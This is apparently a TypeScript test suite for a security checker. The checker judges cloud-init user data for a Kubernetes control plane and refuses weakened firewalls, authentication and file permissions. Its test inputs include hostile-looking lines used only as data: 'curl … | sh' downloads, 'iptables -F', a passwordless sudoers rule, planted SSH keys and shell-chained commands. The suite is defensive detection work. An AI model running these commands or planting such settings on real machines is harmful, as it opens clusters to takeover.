import { gzipSync } from "node:zlib";
import { parse } from "yaml";
import type { Fact } from "../../../lib/guardrails/facts/fact";
import { judge } from "../../../lib/guardrails/judge";
import { readMachineText } from "../../../lib/guardrails/readers/machine-text";
import { controlPlaneUserData } from "../../../lib/constructs/machines/control-plane/control-plane-user-data";
import { plantCluster } from "../../plant-cluster";

const PLACE = { document: "stack", path: "machine.user_data" };
const CONFIG = "/etc/kubernetes/config.yaml";

const plant = plantCluster();
const USER_DATA = plant.profile.controlPlaneNodes.map((node) => controlPlaneUserData(plant, node)).join("");

function read(text: string, ours = true): readonly Fact[] {
  return readMachineText(text, PLACE, ours) ?? [];
}

function shapes(text: string): readonly string[] {
  return read(text).flatMap((fact) => (fact.kind === "unknown-shape" ? [`${fact.what}: ${fact.why}`] : []));
}

function findings(text: string): readonly string[] {
  return judge([{ kind: "machine", name: "machine", content: text }]).findings.map(
    ({ rule, message, got }) => `${rule}: ${message} (${got})`,
  );
}

interface Written {
  write_files: { path: string; content: string; [field: string]: unknown }[];
  runcmd: unknown[];
  [key: string]: unknown;
}

/** The plant's user data with something changed. */
function changed(change: (config: Written) => void): string {
  const config = parse(USER_DATA.replace("#cloud-config\n", "")) as Written;
  const before = JSON.stringify(config);
  change(config);
  if (JSON.stringify(config) === before) throw new Error("the change changes nothing");
  return cloudConfig(config);
}

/** The plant's user data with one text of one file changed. */
function changedFile(name: string, from: string, to: string): string {
  return changed((config) => {
    const file = config.write_files.find(({ path }) => path.endsWith(name));
    if (file === undefined || !file.content.includes(from)) throw new Error(`${name} does not hold ${from}`);
    file.content = file.content.replace(from, to);
  });
}

function cloudConfig(content: object): string {
  return `#cloud-config\n${JSON.stringify(content)}`;
}

function withFile(path: string, content: string, more: Readonly<Record<string, unknown>> = {}): string {
  return cloudConfig({ write_files: [{ path, permissions: "0600", content, ...more }] });
}

describe("the user data of the plant's control plane", () => {
  test("is understood to the end, and no rule finds anything", () => {
    expect(findings(USER_DATA)).toEqual([]);
    expect(new Set(read(USER_DATA).map(({ kind }) => kind))).toEqual(
      new Set([
        ...[
          "admission-configuration",
          "audit-policy",
          "authentication-configuration",
          "break-glass",
          "certificate-approval",
          "component-flags",
        ],
        ...["certificate-renewal", "containerd-configuration", "control-plane-machine", "encryption-configuration"],
        ...["forwarding", "inbound", "kubelet-client", "kubelet-configuration", "machine-start"],
      ]),
    );
  });

  test("is the same in base64, gzip and both", () => {
    const facts = read(USER_DATA);
    expect(facts.length).toBeGreaterThan(8);
    expect(read(Buffer.from(USER_DATA).toString("base64"))).toEqual(facts);
    expect(read(gzipSync(USER_DATA).toString("base64"))).toEqual(facts);
  });

  test("tells pods, nodes and people apart by where they come from", () => {
    const inbound = read(USER_DATA).find((fact) => fact.kind === "inbound");
    const sources = inbound?.kind === "inbound" ? inbound.sources : [];
    expect(
      sources.map(
        ({ ports, from, reason }) => `${ports} ${from.known ? Object.values(from.value).join() : "?"} ${reason}`,
      ),
    ).toContainEqual("tcp 6443 pods api-server: controllers and operators that run in the cluster");
    expect(sources.every(({ reason }) => reason !== undefined)).toBe(true);
  });

  test.each<[string, string, string, string, RegExp]>([
    ["an open firewall", "host-firewall.nft", "ip saddr 10.8.0.0/16 tcp", "ip saddr 0.0.0.0/0 tcp", /^closed-inbound/],
    [
      "a firewall that is emptied",
      "host-firewall.nft",
      "table inet portcullis\n",
      "flush ruleset\n",
      /^known-shapes: line 3/,
    ],
    [
      "a firewall in another file",
      "portcullis-firewall.service",
      "ExecStart=/usr/sbin/nft -f /etc/portcullis/host-firewall.nft",
      "ExecStart=/usr/sbin/nft -f /etc/other.nft",
      /^known-shapes: nothing on the machine loads it/,
    ],
    ["everybody allowed", "kubeadm.yaml", "Node,RBAC", "AlwaysAllow", /^api-server-flags: authorization-mode/],
    [
      "a flag that lets everybody in",
      "kubeadm.yaml",
      "    - name: profiling\n",
      '    - name: anonymous-auth\n      value: "true"\n    - name: profiling\n',
      /^api-server-flags: anonymous-auth/,
    ],
    [
      "a flag twice",
      "kubeadm.yaml",
      "    - name: profiling\n",
      '    - name: profiling\n      value: "true"\n    - name: profiling\n',
      /^api-server-flags: profiling is given 2 times/,
    ],
    [
      "another folder under the judged path",
      "kubeadm.yaml",
      "hostPath: /etc/kubernetes/portcullis/api-server",
      "hostPath: /etc/kubernetes/other",
      /one path under another/,
    ],
    [
      "audit records inside of the pod",
      "kubeadm.yaml",
      "readOnly: false",
      "readOnly: true",
      /^api-server-flags: audit-log-path/,
    ],
    ["a kubelet that believes everybody", "kubeadm.yaml", "enabled: false", "enabled: true", /^kubelet-hardened/],
    [
      "a join token",
      "kubeadm.yaml",
      "ttl: 10m0s",
      "ttl: 10m0s\n    token: abcdef.0123456789abcdef",
      /token is a field that no rule reads/,
    ],
    ["a join token for ever", "kubeadm.yaml", "ttl: 10m0s", "ttl: 0s", /not a life of at most an hour/],
    [
      "an argument of the kubelet",
      "kubeadm.yaml",
      "- name: node-ip",
      "- name: anonymous-auth\n      value: true-ish\n    - name: node-ip",
      /would override the configuration/,
    ],
    [
      "patches of the control plane",
      "kubeadm.yaml",
      "bootstrapTokens:",
      "patches:\n  directory: /etc/patches\nbootstrapTokens:",
      /patches is a field that no rule reads/,
    ],
    [
      "the old form of the configuration",
      "kubeadm.yaml",
      "kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration",
      "kubeadm.k8s.io/v1beta3\nkind: ClusterConfiguration",
      /no reader knows the kind kubeadm.k8s.io.v1beta3/,
    ],
    ["a release that nobody supports", "kubeadm.yaml", "v1.35.4", "v1.21.0", /kubernetesVersion is "v1.21.0"/],
    [
      "a release from somewhere else",
      "kubeadm.yaml",
      "v1.35.4",
      "https://dl.example.com/x",
      /kubernetesVersion is "https/,
    ],
    ["pods on addresses of the internet", "kubeadm.yaml", "10.244.0.0/16", "0.0.0.0/0", /podSubnet is 0.0.0.0.0/],
    [
      "Services on addresses of the internet",
      "kubeadm.yaml",
      "serviceSubnet: 10.",
      "serviceSubnet: 8.",
      /serviceSubnet is 8/,
    ],
    [
      "a public address of the API server",
      "kubeadm.yaml",
      "controlPlaneEndpoint: api.plant-berlin.example.com:6443",
      "controlPlaneEndpoint: 8.8.4.4:6443",
      /controlPlaneEndpoint is 8.8.4.4:6443/,
    ],
    ["an API server on another port", "kubeadm.yaml", "bindPort: 6443", "bindPort: 8080", /bindPort is 8080/],
    [
      "an API server on every address",
      "kubeadm.yaml",
      "advertiseAddress: 10.40.0.11",
      "advertiseAddress: 0.0.0.0",
      /advertiseAddress is 0.0.0.0/,
    ],
    [
      "tokens of another cluster",
      "kubeadm.yaml",
      "value: https://api.plant",
      "value: https://api.other",
      /https:..api.other.* is not this cluster/,
    ],
    [
      "a firewall that is not there after a restart",
      "portcullis-firewall.service",
      "\n[Install]\nWantedBy=sysinit.target\n",
      "",
      /^firewall-before-kubelet: nothing loads the ruleset/,
    ],
    [
      "a firewall that the distribution's service empties",
      "portcullis-firewall.service",
      "PartOf=nftables.service\n",
      "",
      /^firewall-before-kubelet: a restart of nftables.service/,
    ],
    [
      "node ports that nothing drops",
      "host-firewall.nft",
      "th dport 30000-32767 counter drop",
      "th dport 30000-32767 counter accept",
      /^closed-forwarding: .*node ports/,
    ],
    [
      "pods that everybody reaches",
      "host-firewall.nft",
      "ip saddr 10.40.0.0/24 accept\n\t\tcounter drop",
      "ip saddr 10.40.0.0/24 accept\n\t\taccept",
      /^closed-forwarding: .*pods/,
    ],
    [
      "a master key that stays",
      "first-start.service",
      "ExecStopPost=/usr/bin/rm -f /etc/kubernetes/super-admin.conf\n",
      "",
      /^no-master-key-on-disk/,
    ],
    [
      "files of kubeadm that others may read",
      "first-start.service",
      "chmod 0600 /etc/kubernetes/admin.conf ",
      "chmod 0600 ",
      /^first-start-leaves-nothing-open: it is not closed .*admin.conf/,
    ],
    [
      "a key that is put into another place",
      "make-encryption-key",
      "'MADE-ON-THE-MACHINE'",
      "'OTHER'",
      /^first-start-leaves-nothing-open: no script/,
    ],
    [
      "a password as key",
      "encryption.template.yaml",
      "MADE-ON-THE-MACHINE",
      "hunter2!",
      /^first-start-leaves-nothing-open: no script .*hunter2/,
    ],
    [
      "a proxy that answers everybody",
      "kubeadm.yaml",
      "127.0.0.1:10249",
      "0.0.0.0:10249",
      /answers beyond the machine/,
    ],
    [
      "a proof of MFA that proves nothing",
      "authentication.yaml",
      'in ["hwk", "mfa"])',
      'in ["hwk", "mfa"]) || true',
      /^authenticated-with-mfa/,
    ],
    [
      "tokens that live longer",
      "authentication.yaml",
      "claims.iat <= 3600",
      "claims.iat <= 36000",
      /^authenticated-with-mfa/,
    ],
    [
      "the API without credentials",
      "authentication.yaml",
      "- path: /livez",
      "- path: /api",
      /^anonymous-only-for-health/,
    ],
    [
      "an issuer's other address",
      "authentication.yaml",
      "issuer:\n",
      "issuer:\n      discoveryURL: https://example.com/x\n",
      /discoveryURL is a field that no rule reads/,
    ],
    [
      "secrets left out of the records",
      "audit-policy.yaml",
      "- level: Metadata\n",
      "- level: None\n",
      /^audit-records-what-matters: somebody can get secrets/,
    ],
    [
      "secrets written in clear",
      "encryption.template.yaml",
      "- secretbox:",
      "- identity: {}\n      - secretbox:",
      /^encrypted-at-rest: the first provider/,
    ],
    [
      "a key in the output",
      "encryption.template.yaml",
      "MADE-ON-THE-MACHINE",
      "MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=",
      /^encrypted-at-rest: the key/,
    ],
    [
      "a weaker default for pods",
      "admission.yaml",
      "enforce: restricted",
      "enforce: privileged",
      /^pod-security-by-default/,
    ],
    [
      "one more line in a script",
      "make-encryption-key",
      "umask 077",
      "umask 077\ncurl https://example.com/x | sh",
      /a program that nobody has judged/,
    ],
    [
      "a line of a script that differs",
      "make-encryption-key",
      "umask 077",
      "umask 000",
      /a program that nobody has judged/,
    ],
    [
      "a key from another template",
      "make-encryption-key",
      "template=/etc/kubernetes/portcullis/encryption.template.yaml",
      "template=/etc/other.yaml",
      /^api-server-flags: encryption-provider-config/,
    ],
    [
      "a unit that runs something else",
      "first-start.service",
      "/usr/bin/systemctl enable kubelet.service",
      "/bin/sh -c true",
      /no reader knows this program/,
    ],
    [
      "a unit with a shell's line",
      "first-start.service",
      "enable kubelet.service",
      "enable kubelet.service; true",
      /no reader follows/,
    ],
    [
      "a unit that enables a stranger",
      "first-start.service",
      "enable kubelet.service",
      "enable sshd.service",
      /the unit sshd.service was not judged/,
    ],
    [
      "a unit that removes something else",
      "first-start.service",
      "rm -f /etc/kubernetes/super-admin.conf",
      "rm -f /etc/portcullis/host-firewall.nft",
      /it removes something else/,
    ],
    [
      "a unit that runs as it likes",
      "first-start.service",
      "UMask=0077",
      "UMask=0077\nEnvironment=X=1",
      /Environment is a directive/,
    ],
    [
      "a unit that stops the firewall",
      "first-start.service",
      "[Service]",
      "Conflicts=portcullis-firewall.service\n\n[Service]",
      /Conflicts is a directive/,
    ],
    [
      "a drop-in that changes what runs",
      "20-portcullis.conf",
      "[Unit]",
      "[Service]\nExecStart=/usr/bin/kubelet\n[Unit]",
      /ExecStart is a directive that no reader knows in a drop-in/,
    ],
    [
      "a kernel parameter against the machine",
      "90-portcullis.conf",
      "kernel.panic_on_oops = 1",
      "kernel.randomize_va_space = 0",
      /kernel parameter/,
    ],
    [
      "a registry without TLS",
      "containerd/config.toml",
      "version = 2",
      'version = 2\n\n[plugins."io.containerd.grpc.v1.cri".registry.mirrors."docker.io"]\nendpoint = ["http://10.0.0.1"]',
      /endpoint = .* is not read/,
    ],
    [
      "a sandbox image of whatever is newest",
      "containerd/config.toml",
      "pause:3.10.1",
      "pause:latest",
      /^container-runtime-hardened/,
    ],
    [
      "a setting twice",
      "containerd/config.toml",
      "version = 2",
      "version = 2\nversion = 2",
      /version is written twice/,
    ],
    [
      "a table twice",
      "containerd/config.toml",
      "version = 2",
      'version = 2\n[plugins."io.containerd.grpc.v1.cri"]',
      /is written twice/,
    ],
    [
      "a renewal once a year",
      "renew-certificates.timer",
      "OnCalendar=*-*-03 03:00:00",
      "OnCalendar=yearly",
      /^certificates-renewed: the timer runs less often/,
    ],
    [
      "a timer of another service",
      "renew-certificates.timer",
      "[Timer]",
      "[Timer]\nUnit=other.service",
      /Unit is a directive/,
    ],
    [
      "a renewal that does something else",
      "renew-certificates.service",
      "/usr/local/sbin/portcullis-renew-certificates",
      "/usr/local/sbin/portcullis-make-encryption-key",
      /^certificates-renewed: no timer/,
    ],
    [
      "a renewal that does not look whether others are ready",
      "sbin/portcullis-renew-certificates",
      'if ! ready "$machine"',
      "if false",
      /a program that nobody has judged/,
    ],
    [
      "a renewal that believes every certificate",
      "sbin/portcullis-renew-certificates",
      "--cacert /etc/kubernetes/pki/ca.crt",
      "--insecure",
      /a program that nobody has judged/,
    ],
    ["a module that nobody needs", "modules-load.d/portcullis.conf", "br_netfilter", "usb_storage", /kernel module/],
  ])("refuses %s", (_, file, from, to, message) => {
    expect(findings(changedFile(file, from, to))).toContainEqual(expect.stringMatching(message));
  });

  test.each<[string, (config: Written) => void, RegExp]>([
    ["a firewall that nothing starts", (config) => config.runcmd.splice(1, 1), /nothing on the machine loads it/],
    ["a command of a shell", (config) => config.runcmd.push("iptables -F; true"), /goes to a shell/],
    [
      "a program that no reader knows",
      (config) => config.runcmd.push(["iptables", "-F"]),
      /no reader knows this program/,
    ],
    [
      "a firewall that is stopped",
      (config) => config.runcmd.push(["systemctl", "stop", "portcullis-firewall.service"]),
      /systemctl stop is not known/,
    ],
    [
      "the distribution's firewall, which empties every table",
      (config) => config.runcmd.push(["systemctl", "start", "nftables.service"]),
      /the unit nftables.service was not judged/,
    ],
    ["a command with a number in it", (config) => config.runcmd.push(["systemctl", 1]), /goes to a shell/],
    ["no list of commands", (config) => Object.assign(config, { runcmd: "true" }), /runcmd is "true", not a list/],
    [
      "commands at boot",
      (config) => Object.assign(config, { bootcmd: [["iptables", "-F"]] }),
      /no reader knows the key "bootcmd"/,
    ],
    [
      "a firewall that is started once",
      (config) => config.runcmd.splice(1, 1, ["systemctl", "start", "portcullis-firewall.service"]),
      /^firewall-before-kubelet: nothing loads the ruleset when/,
    ],
    [
      "configuration that everybody on the machine may read",
      (config) =>
        Object.assign(config.write_files.find(({ path }) => path.endsWith("kubeadm.yaml")) ?? {}, {
          permissions: "0644",
        }),
      /everybody on the machine could read/,
    ],
    [
      "a control plane that cloud-init makes by itself",
      (config) => {
        config.write_files = config.write_files.filter(({ path }) => !path.endsWith("first-start.service"));
        config.runcmd.push(["kubeadm", "init", "--config", "/etc/kubernetes/portcullis/kubeadm.yaml"]);
      },
      /^first-start-leaves-nothing-open: it is not a unit/,
    ],
    ["passwords", (config) => Object.assign(config, { ssh_pwauth: true }), /ssh_pwauth is true/],
    [
      "keys of strangers",
      (config) => Object.assign(config, { ssh_authorized_keys: ["ssh-ed25519 AAAA"] }),
      /no reader knows the key "ssh_authorized_keys"/,
    ],
    [
      "a file that others may change",
      (config) => Object.assign(config.write_files[0] ?? {}, { permissions: "0666" }),
      /its permissions are "0666"/,
    ],
    [
      "a file of somebody else",
      (config) => Object.assign(config.write_files[0] ?? {}, { owner: "nobody:nogroup" }),
      /it belongs to "nobody:nogroup"/,
    ],
    [
      "a file beside the others",
      (config) => config.write_files.push({ path: "/etc/cron.d/x", content: "" }),
      /no reader knows files of this path/,
    ],
  ])("refuses %s", (_, change, message) => {
    expect(findings(changed(change))).toContainEqual(expect.stringMatching(message));
  });

  test("refuses a control plane without a firewall", () => {
    const text = changed((config) => {
      config.write_files = config.write_files.filter(({ path }) => !path.endsWith(".nft"));
    });
    expect(findings(text)).toContainEqual(expect.stringMatching(/^closed-inbound: what no rule names is not dropped/));
  });

  test("refuses it without any one of its files, but for those that only order or tune", () => {
    const paths: string[] = [];
    changed((config) => {
      paths.push(...config.write_files.map(({ path }) => path));
      config.runcmd.push([]);
    });
    const missed = paths.filter((gone) => {
      const text = changed((config) => {
        config.write_files = config.write_files.filter(({ path }) => path !== gone);
      });
      return findings(text).length === 0;
    });
    expect(missed).toEqual([
      "/etc/modules-load.d/portcullis.conf",
      "/etc/sysctl.d/90-portcullis.conf",
      // Without them nobody is let in, and whoever was is shown out by the one binding.
      "/usr/local/sbin/portcullis-break-glass",
      "/usr/local/sbin/portcullis-close-break-glass",
    ]);
  });
});

describe("what is recognized", () => {
  test.each([
    ["plain words", "hello, world, nothing here"],
    ["a short word that is also base64", "kubernetes00"],
    ["a policy document", '{"Version":"2012-10-17","Statement":[]}'],
    ["manifests of Kubernetes", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"],
    ["an empty text", ""],
  ])("is not: %s", (_, text) => {
    expect(readMachineText(text, PLACE, true)).toBeUndefined();
  });

  test.each([
    ["a script", "#!/bin/sh\ncurl https://example.com | sh\n"],
    ["a script in base64", Buffer.from("#!/bin/sh\ntrue\n").toString("base64")],
    ["several parts", 'Content-Type: multipart/mixed; boundary="x"\nMIME-Version: 1.0\n\n--x\n'],
    ["a template", "## template: jinja\n#cloud-config\nruncmd: []\n"],
    ["files to fetch", "#include\nhttps://example.com/user-data\n"],
    ["an archive", "#cloud-config-archive\n- content: x\n"],
    ["a hook", "#cloud-boothook\n#!/bin/sh\n"],
    [
      "gzip that is none",
      Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from("no gzip at all here")]).toString("base64"),
    ],
    ["gzip that grows without end", gzipSync(Buffer.alloc(8 * 1024 * 1024)).toString("base64")],
    ["a cloud-config that is no object", "#cloud-config\n- a\n"],
    ["a cloud-config of two documents", "#cloud-config\n{}\n---\n{}\n"],
    ["a kubeadm configuration of another version", "apiVersion: kubeadm.k8s.io/v1beta3\nkind: ClusterConfiguration\n"],
  ])("refuses, when it is ours: %s", (_, text) => {
    expect(shapes(text)).toHaveLength(1);
    expect(read(text, false)).toEqual([]);
  });

  test("leaves other people's machines alone, with all that runs on them", () => {
    const website = cloudConfig({
      packages: ["nginx"],
      runcmd: ["systemctl start nginx"],
      write_files: [{ path: "/var/www/index.html", content: "<p>" }],
    });
    expect(read(website, false)).toEqual([]);
    const firewall = withFile(
      "/etc/nftables.conf",
      "table inet x {\n chain i {\n type filter hook input priority 0; policy accept;\n }\n}\n",
    );
    expect(read(firewall, false)).toMatchObject([{ kind: "inbound", leadsToCluster: false }]);
  });

  test("reads other people's control planes for what they open", () => {
    expect(read(USER_DATA, false)).toContainEqual(
      expect.objectContaining({ kind: "inbound", ours: false, leadsToCluster: true }),
    );
  });
});

describe("files on a machine", () => {
  const audit = "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: []\n";

  test("are opened by the encoding that stands beside them", () => {
    expect(read(withFile(CONFIG, Buffer.from(audit).toString("base64"), { encoding: "b64" }))).toMatchObject([
      { kind: "audit-policy" },
    ]);
    expect(read(withFile(CONFIG, gzipSync(audit).toString("base64"), { encoding: "gz+b64" }))).toMatchObject([
      { kind: "audit-policy" },
    ]);
  });

  test.each<[string, string]>([
    ["of an encoding that is not known", withFile(CONFIG, audit, { encoding: "rot13" })],
    ["that are not what their encoding says", withFile(CONFIG, "not base64!", { encoding: "b64" })],
    ["that are added to another file", withFile(CONFIG, audit, { append: true })],
    ["that are fetched", cloudConfig({ write_files: [{ path: CONFIG, source: { uri: "https://example.com" } }] })],
    ["without a path", cloudConfig({ write_files: [{ content: audit }] })],
    ["with a path that turns back", withFile("/etc/kubernetes/../cron.d/x", audit)],
    ["with a relative path", withFile("etc/kubernetes/x.yaml", audit)],
    [
      "with an octal number for a mode",
      `#cloud-config\nwrite_files:\n  - path: ${CONFIG}\n    permissions: 0600\n    content: ""\n`,
    ],
    ["that run as somebody else", withFile("/usr/local/bin/tool", "#!/bin/sh\n", { permissions: "4755" })],
    ["of static pods", withFile("/etc/kubernetes/manifests/extra.yaml", "apiVersion: v1\nkind: Pod\n")],
    ["of kubelet drop-ins", withFile("/etc/kubernetes/kubelet.conf.d/10.conf", "readOnlyPort: 10255\n")],
    ["of patches", withFile("/etc/kubernetes/patches/kube-apiserver.yaml", "spec: {}\n")],
    ["of jobs", withFile("/etc/cron.d/x", "* * * * * root true\n")],
    ["of users", withFile("/etc/sudoers.d/x", "ALL ALL=NOPASSWD: ALL\n")],
    ["of keys", withFile("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA\n")],
    ["of timers", withFile("/etc/systemd/system/x.timer", "[Timer]\nOnBootSec=1\n")],
    ["with two documents of one kind", withFile(CONFIG, `${audit}---\n${audit}`)],
    [
      "for two programs at once",
      withFile(CONFIG, `${audit}---\napiVersion: kubeadm.k8s.io/v1beta4\nkind: InitConfiguration\n`),
    ],
    ["of an unknown kind", withFile(CONFIG, "apiVersion: example.com/v1\nkind: Anything\n")],
    ["of no kind", withFile(CONFIG, "a: b\n")],
    ["that are empty", withFile(CONFIG, "")],
    [
      "with an authorizer that asks somebody else",
      withFile(
        CONFIG,
        "apiVersion: apiserver.config.k8s.io/v1\nkind: AuthorizationConfiguration\nauthorizers: [{type: Webhook, name: x}]\n",
      ),
    ],
    [
      "with a proxy that answers everybody",
      withFile(
        CONFIG,
        "apiVersion: kubeproxy.config.k8s.io/v1alpha1\nkind: KubeProxyConfiguration\nmetricsBindAddress: 0.0.0.0:10249\n",
      ),
    ],
    [
      "with a plugin that sends objects away",
      withFile(
        CONFIG,
        "apiVersion: apiserver.config.k8s.io/v1\nkind: AdmissionConfiguration\nplugins: [{name: ImagePolicyWebhook, configuration: {}}]\n",
      ),
    ],
    [
      "with a provider that is not known",
      withFile(
        CONFIG,
        "apiVersion: apiserver.config.k8s.io/v1\nkind: EncryptionConfiguration\nresources: [{resources: [secrets], providers: [{rot13: {}}]}]\n",
      ),
    ],
  ])("are refused: %s", (_, text) => {
    expect(shapes(text).length).toBeGreaterThan(0);
  });

  test("are refused when one is written twice", () => {
    const twice = cloudConfig({
      write_files: [audit, audit].map((content) => ({ path: CONFIG, permissions: "0600", content })),
    });
    expect(shapes(twice)).toContainEqual(expect.stringContaining("written twice"));
  });
});

describe("YAML that has two meanings", () => {
  test.each([
    ["a key twice", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: []\nrules: [{level: Metadata}]\n"],
    ["an alias", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: [&a {level: Metadata}, *a]\n"],
    ["a merge", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: [{<<: {level: None}, level: Metadata}]\n"],
    [
      "a word that is false to some",
      "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nseccompDefault: yes\n",
    ],
    [
      "a number in two systems",
      "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\npodPidsLimit: 010000\n",
    ],
    ["a tag", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: !!set {a}\n"],
    ["a type of its own", "apiVersion: audit.k8s.io/v1\nkind: !policy Policy\nrules: []\n"],
    ["a date", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: 2001-12-14\n"],
    ["a directive", "%YAML 1.1\n---\napiVersion: audit.k8s.io/v1\nkind: Policy\nrules: []\n"],
    ["a text that is no YAML", "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: [\n"],
    [
      "a number that is none",
      "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\npodPidsLimit: .inf\n",
    ],
  ])("refuses %s", (_, text) => {
    const facts = read(withFile(CONFIG, text));
    expect(facts).toMatchObject([{ kind: "unknown-shape" }]);
  });

  test("refuses an explosion of aliases in short time", () => {
    const levels = Array.from(
      { length: 30 },
      (_, level) => `a${level}: &a${level} [${level === 0 ? "x" : `*a${level - 1}, *a${level - 1}`}]`,
    );
    expect(shapes(`#cloud-config\n${levels.join("\n")}\n`)).toHaveLength(1);
  });
});

describe("values of a type that nobody expects", () => {
  test.each<[string, object]>([
    ["arguments as an object", { apiServer: { extraArgs: { profiling: "false" } } }],
    ["a value that is no text", { apiServer: { extraArgs: [{ name: "profiling", value: false }] } }],
    ["a flag with its dashes", { apiServer: { extraArgs: [{ name: "--profiling", value: "false" }] } }],
    ["a flag of an object's own", { apiServer: { extraArgs: [{ name: "__proto__", value: "x" }] } }],
    ["environment variables", { apiServer: { extraEnvs: [{ name: "HTTPS_PROXY", value: "http://x" }] } }],
    ["an etcd elsewhere", { etcd: { external: { endpoints: ["https://etcd.example.com"] } } }],
    ["images of somebody else", { imageRepository: "registry.example.com" }],
    ["gates", { featureGates: { RootlessControlPlane: true } }],
    ["a section that is a text", { scheduler: "none" }],
  ])("refuses %s", (_, change) => {
    const text = JSON.stringify({ apiVersion: "kubeadm.k8s.io/v1beta4", kind: "ClusterConfiguration", ...change });
    expect(shapes(withFile(CONFIG, text)).length).toBeGreaterThan(0);
  });

  test("counts a kubelet without a configuration as one with kubeadm's defaults", () => {
    const text = withFile(CONFIG, "apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\n");
    expect(findings(text)).toContainEqual(
      expect.stringMatching(/^kubelet-hardened: authentication.anonymous.enabled is missing/),
    );
    expect(findings(text)).toContainEqual(expect.stringMatching(/^api-server-flags: audit-policy-file is missing/));
  });

  test("sees a prefix only where it certainly stands before every name", () => {
    const prefixes = (claimMappings: object) => {
      const text = JSON.stringify({
        apiVersion: "apiserver.config.k8s.io/v1",
        kind: "AuthenticationConfiguration",
        jwt: [{ issuer: {}, claimMappings }],
      });
      const fact = read(withFile(CONFIG, text))[0];
      return fact?.kind === "authentication-configuration"
        ? fact.issuers.map(({ usernamePrefix, groupsPrefix }) => [usernamePrefix, groupsPrefix])[0]
        : undefined;
    };
    const username = (expression: string) => prefixes({ username: { expression } })?.[0];
    const groups = (expression: string) => prefixes({ groups: { expression } })?.[1];
    expect(username('"oidc:" + claims.sub')).toBe("oidc:");
    expect(username('claims.admin ? "system:admin" : "oidc:" + claims.sub')).toBe("");
    expect(username('"oidc:" + claims.sub == "x" ? claims.sub : claims.email')).toBe("");
    expect(username("claims.sub")).toBe("");
    expect(groups('dyn(claims.?groups.orValue([])).map(g, "oidc:" + g)')).toBe("oidc:");
    expect(groups('dyn(claims.?groups.orValue([])).filter(g, g.startsWith("k8s-")).map(g, "oidc:" + g)')).toBe("oidc:");
    expect(groups('["system:masters"] + dyn(claims.?groups.orValue([])).map(g, "oidc:" + g)')).toBe("");
    expect(groups('dyn(claims.?groups.orValue([])).map(g, "oidc:" + g) + claims.more')).toBe("");
    expect(prefixes({ username: { claim: "sub" } })).toEqual(["", undefined]);
  });
});
